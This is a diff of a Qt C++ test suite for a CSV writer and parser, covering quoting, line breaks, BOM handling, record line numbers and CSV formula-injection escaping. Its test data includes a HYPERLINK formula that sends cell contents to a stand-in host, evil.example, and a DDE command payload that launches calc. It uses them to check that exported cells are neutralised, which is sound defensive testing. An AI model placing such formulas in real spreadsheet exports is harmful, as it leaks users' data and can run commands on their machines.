@@ -11,13 +11,12 @@ using namespace exchange;
 
 namespace {
 
-QByteArray written(const QList<QStringList> &rows)
+QByteArray written(const QStringList &row)
 {
     QBuffer buffer;
     buffer.open(QIODevice::WriteOnly);
     CsvWriter csv(&buffer);
-    for (const QStringList &r : rows)
-        csv.writeRow(r);
+    csv.writeRow(row);
     csv.flush();
     return buffer.data();
 }
@@ -37,59 +36,42 @@ private slots:
         QTest::newRow("quote") << QStringList{"说\"好\""} << QByteArray("\"说\"\"好\"\"\"\r\n");
         QTest::newRow("line breaks") << QStringList{"一\r\n二", "三\n"} << QByteArray("\"一\r\n二\",\"三\n\"\r\n");
         QTest::newRow("empty fields") << QStringList{"", "", ""} << QByteArray(",,\r\n");
-        QTest::newRow("blanks kept bare") << QStringList{" x "} << QByteArray(" x \r\n");
+        QTest::newRow("blanks kept bare") << QStringList{" x ", "\"", ",", "\n", "\r"}
+                                          << QByteArray(" x ,\"\"\"\",\",\",\"\n\",\"'\r\"\r\n");
         // What a spreadsheet would run as a formula gets an apostrophe; numbers do not.
         QTest::newRow("formula") << QStringList{"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)"}
                                  << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",'@SUM(1+1)\r\n");
         QTest::newRow("plus, minus, tab, CR") << QStringList{"+cmd|' /C calc'!A0", "-x", "\tx", "\rx"}
                                               << QByteArray("'+cmd|' /C calc'!A0,'-x,'\tx,\"'\rx\"\r\n");
         QTest::newRow("negative numbers bare") << QStringList{"-3", "-0.5", "-3."} << QByteArray("-3,-0.5,'-3.\r\n");
-        QTest::newRow("apostrophe before a formula") << QStringList{"'=1", "'abc", "'-3"} << QByteArray("''=1,'abc,'-3\r\n");
+        QTest::newRow("apostrophe before a formula") << QStringList{"'=1", "'abc", "'-3", "''@x", "'", "-", "\t"}
+                                                     << QByteArray("''=1,'abc,'-3,'''@x,','-,'\t\r\n");
     }
 
+    // Written as a spreadsheet expects it, and read back exactly by the reader.
     void writer()
     {
         QFETCH(QStringList, fields);
         QFETCH(QByteArray, line);
-        QCOMPARE(written({fields}), QByteArray("\xEF\xBB\xBF") + line);
-    }
-
-    void roundTrip()
-    {
-        const QList<QStringList> rows{
-            {"时间", "备注", "百度收入量", "◆关键词1"},
-            {"2011-10-1", "第一行\r\n第二行, 有\"引号\"", "收入155/反向31", ""},
-            {"2011-10-2", "\"", ",", "百度9/谷歌6"},
-            {"2011-10-3", "\n", "\r", " 前后空格 "},
-            {"=1+1", "'=1", "''@x", "'-3"},
-            {"-3", "-", "'", "\t"},
-        };
-        const CsvTable table = Csv::parse(written(rows));
-        QCOMPARE(table.header, rows[0]);
-        QCOMPARE(table.records.size(), rows.size() - 1);
-        for (int i = 0; i < rows.size() - 1; ++i)
-            QCOMPARE(table.records[i].fields, rows[i + 1]);
-        // Lines of the file where each record starts: the first holds a line break.
-        QCOMPARE(table.records[0].line, 2);
-        QCOMPARE(table.records[1].line, 4);
-        QCOMPARE(table.records[2].line, 5);
+        QCOMPARE(written(fields), QByteArray("\xEF\xBB\xBF") + line);
+        QCOMPARE(Csv::parse(written(fields)).header, fields);
     }
 
     void handMade_data()
     {
         QTest::addColumn<QByteArray>("bytes");
-        QTest::addColumn<QString>("records"); // fields joined by |, records by ;
-        QTest::newRow("no BOM, LF") << QByteArray("a,b\n1,2\n") << "1|2";
-        QTest::newRow("BOM, CRLF, no final line end") << QByteArray("\xEF\xBB\xBF" "a,b\r\n1,2") << "1|2";
-        QTest::newRow("CR only") << QByteArray("a,b\r1,2\r3,4\r") << "1|2;3|4";
-        QTest::newRow("quoted comma and quote") << QByteArray("a,b\n\"x,\"\"y\"\"\",z\n") << "x,\"y\"|z";
-        QTest::newRow("CRLF inside quotes") << QByteArray("a,b\r\n\"1\r\n2\",3\r\n") << "1\r\n2|3";
-        QTest::newRow("blank lines skipped") << QByteArray("a,b\n\n1,2\n\n") << "1|2";
-        QTest::newRow("empty last field") << QByteArray("a,b\n1,\n") << "1|";
-        QTest::newRow("quote inside a bare field kept") << QByteArray("a,b\n5\"6,x\n") << "5\"6|x";
-        QTest::newRow("chinese") << QByteArray("时间,备注\n2011-9-5,优化首页\n") << "2011-9-5|优化首页";
-        QTest::newRow("apostrophe before text kept") << QByteArray("a,b\n'abc,'-3\n") << "'abc|'-3";
-        QTest::newRow("trailing comma at the end") << QByteArray("a,b\n1,") << "1|";
+        QTest::addColumn<QString>("records"); // line: fields joined by |, records by ;
+        QTest::newRow("no BOM, LF") << QByteArray("a,b\n1,2\n") << "2:1|2";
+        QTest::newRow("BOM, CRLF, no final line end") << QByteArray("\xEF\xBB\xBF" "a,b\r\n1,2") << "2:1|2";
+        QTest::newRow("CR only") << QByteArray("a,b\r1,2\r3,4\r") << "2:1|2;3:3|4";
+        QTest::newRow("quoted comma and quote") << QByteArray("a,b\n\"x,\"\"y\"\"\",z\n") << "2:x,\"y\"|z";
+        QTest::newRow("line breaks inside quotes") << QByteArray("a,b\r\n\"1\r\n2\n3\r4\",3\r\n5,6") << "2:1\r\n2\n3\r4|3;6:5|6";
+        QTest::newRow("blank lines skipped") << QByteArray("a,b\n\n1,2\n\n") << "3:1|2";
+        QTest::newRow("empty last field") << QByteArray("a,b\n1,\n") << "2:1|";
+        QTest::newRow("quote inside a bare field kept") << QByteArray("a,b\n5\"6,x\n") << "2:5\"6|x";
+        QTest::newRow("chinese") << QByteArray("时间,备注\n2011-9-5,优化首页\n") << "2:2011-9-5|优化首页";
+        QTest::newRow("apostrophe before text kept") << QByteArray("a,b\n'abc,'-3\n") << "2:'abc|'-3";
+        QTest::newRow("trailing comma at the end") << QByteArray("a,b\n1,") << "2:1|";
     }
 
     void handMade()
@@ -99,7 +81,7 @@ private slots:
         const CsvTable table = Csv::parse(bytes);
         QStringList got;
         for (const CsvRecord &r : table.records)
-            got << r.fields.join(QLatin1Char('|'));
+            got << QString::number(r.line) + ':' + r.fields.join(QLatin1Char('|'));
         QCOMPARE(got.join(QLatin1Char(';')), records);
     }
 
